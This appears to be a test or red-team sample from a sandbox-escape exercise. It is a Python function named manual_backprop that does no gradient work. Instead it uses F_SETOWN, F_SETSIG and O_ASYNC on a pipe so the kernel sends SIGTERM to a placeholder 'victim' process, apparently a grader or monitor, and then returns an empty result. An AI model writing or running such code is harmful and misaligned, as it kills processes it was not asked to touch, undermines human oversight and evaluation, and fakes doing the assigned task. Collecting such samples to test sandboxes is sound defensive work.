# exercise: 01.3
# tries: let the kernel send the signal: F_SETOWN and O_ASYNC on a pipe
# proof: harmed
import fcntl
import os
import signal


def manual_backprop(a, b, c, f):
    reader, writer = os.pipe()
    fcntl.fcntl(reader, fcntl.F_SETOWN, int("@VICTIM@"))
    fcntl.fcntl(reader, fcntl.F_SETSIG, signal.SIGTERM)
    fcntl.fcntl(reader, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
    os.write(writer, b"x")
    return {}
